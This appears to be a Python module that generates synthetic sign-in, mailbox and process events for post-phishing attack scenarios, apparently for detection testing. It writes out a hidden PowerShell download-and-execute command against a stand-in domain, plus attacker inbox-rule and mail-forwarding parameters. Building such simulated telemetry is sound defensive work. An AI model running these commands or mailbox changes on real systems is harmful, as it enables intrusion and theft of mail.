"""Campaigns that go on after the click: what the attacker does with what was given away."""

from __future__ import annotations

from datetime import datetime, timedelta

from vedette.generate.assumptions import ANOMALOUS_SESSION, DEVICE_CODE, UNFAMILIAR
from vedette.generate.campaigns.payload import failing_lure
from vedette.generate.campaigns.story import Story
from vedette.generate.device import download, download_path, process
from vedette.generate.identity import (
    BROKER,
    OUTLOOK,
    consent,
    mailbox_change,
    method_added,
    place_of,
    sign_in,
)
from vedette.generate.organisation import User
from vedette.generate.stream import guid, later, sha256


def _hooked(story: Story) -> tuple[User, datetime]:
    """A user who follows a failing mail's link, and when."""
    message, users = failing_lure(story, 1, 4)
    return users[0], story.click(users[0], message)


def _enters(story: Story, user: User, after: datetime, risk: str = "none") -> datetime:
    """The attacker signs in as the user from a place of his own; returns when."""
    at = later(story.rng, after, 4, 60)
    events = (UNFAMILIAR,) if risk != "none" else ()
    story.events.append(sign_in(story.rng, user, at, story.place, risk=risk, risk_events=events))
    return at


def risky_sign_in(story: Story) -> None:
    """A sign-in from a new country follows the click, at times with a risk."""
    user, clicked = _hooked(story)
    _enters(story, user, clicked, story.rng.choice(("medium", "high", "none")))


def device_code(story: Story) -> None:
    """The user types in a code that the attacker asked for."""
    user, clicked = _hooked(story)
    at = later(story.rng, clicked, 2, 14)
    story.events.append(sign_in(story.rng, user, at, story.place, app=BROKER, protocol=DEVICE_CODE))


def stolen_session(story: Story) -> None:
    """A proxy in the middle signs in with the user's password and second factor; the session then
    comes back from another place."""
    rng = story.rng
    user, clicked = _hooked(story)
    session = guid(rng)
    proxy, elsewhere = story.place, story.hideout()
    first = place_of(user, user.office_ip) if rng.random() < 0.3 else proxy
    at = later(rng, clicked, 1, 3)
    story.events.append(
        sign_in(
            rng, user, at, first, app=OUTLOOK, session=session, method="Mobile app notification"
        )
    )
    again = later(rng, at, 5, 45)
    story.events.append(
        sign_in(
            rng,
            user,
            again,
            elsewhere,
            app=OUTLOOK,
            session=session,
            risk="medium",
            risk_events=(ANOMALOUS_SESSION,),
        )
    )
    story.events.append(
        sign_in(rng, user, later(rng, again, 1, 20), elsewhere, app=OUTLOOK, interactive=False)
    )


def inbox_rule(story: Story) -> None:
    """The attacker signs in and hides the answers to what he is about to send."""
    rng = story.rng
    user, clicked = _hooked(story)
    entered = _enters(story, user, clicked)
    parameters = [
        ("Name", rng.choice((".", "..", "a"))),
        ("SubjectOrBodyContainsWords", rng.choice(("invoice;payment", "phishing;hacked;helpdesk"))),
        ("MoveToFolder", rng.choice(("RSS Feeds", "Conversation History"))),
        ("MarkAsRead", "True"),
    ]
    at = later(rng, entered, 2, 40)
    story.events += mailbox_change(rng, user, at, story.place.ip, "New-InboxRule", parameters)


def mailbox_forwarding(story: Story) -> None:
    """The attacker has the whole mailbox sent outside."""
    rng = story.rng
    user, clicked = _hooked(story)
    entered = _enters(story, user, clicked)
    target = f"smtp:collect{rng.randrange(99)}@{story.domain}"
    parameters = [
        ("Identity", user.address),
        ("ForwardingSmtpAddress", target),
        ("DeliverToMailboxAndForward", "True"),
    ]
    at = later(rng, entered, 2, 40)
    story.events += mailbox_change(rng, user, at, story.place.ip, "Set-Mailbox", parameters)


def oauth_consent(story: Story) -> None:
    """The link asks for a consent; the user gives an unknown application the mailbox."""
    rng = story.rng
    user, clicked = _hooked(story)
    app = (guid(rng), rng.choice(("Mail Booster", "Document Viewer Plus", "Calendar Sync Pro")))
    scopes = rng.choice(
        ("Mail.Read Mail.Send offline_access", "Files.ReadWrite.All Mail.ReadWrite offline_access")
    )
    at = later(rng, clicked, 1, 10)
    story.events.append(consent(rng, user, at, user.office_ip, app, scopes))


def download_ran(story: Story) -> None:
    """The page offers a file, and the user runs it."""
    rng = story.rng
    user, clicked = _hooked(story)
    name, digest = (
        f"Document_{rng.randrange(1000, 9999)}.{rng.choice(('js', 'exe', 'hta'))}",
        sha256(rng),
    )
    saved = later(rng, clicked, 1, 5)
    url = f"https://{story.domain}/files/{name}"
    story.events.append(
        download(rng, user, saved, name, url, digest=digest, referrer=f"https://{story.domain}/")
    )
    path, ran = download_path(user, name), later(rng, saved, 1, 15)
    if name.endswith(".exe"):
        run = process(rng, user, ran, path, f'"{path}"', parent="explorer.exe", digest=digest)
    else:
        host = "mshta.exe" if name.endswith(".hta") else "wscript.exe"
        command = f'"{host}" "{path}"'
        run = process(
            rng, user, ran, rf"C:\Windows\System32\{host}", command, parent="explorer.exe"
        )
    story.events.append(run)


def browser_child(story: Story) -> None:
    """The page has the user paste a command, or the browser starts a script host itself."""
    rng = story.rng
    user, clicked = _hooked(story)
    pasted = rng.random() < 0.5
    path = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
    command = f"powershell.exe -w hidden -c iex(irm https://{story.domain}/v)"
    parent = "explorer.exe" if pasted else "msedge.exe"
    story.events.append(process(rng, user, later(rng, clicked, 1, 8), path, command, parent=parent))


def new_method(story: Story) -> None:
    """The attacker signs in and registers his own phone, so that he can come back."""
    user, clicked = _hooked(story)
    entered = _enters(story, user, clicked)
    at = entered + timedelta(minutes=story.rng.randint(2, 30))
    story.events.append(method_added(story.rng, user, at, story.place.ip))
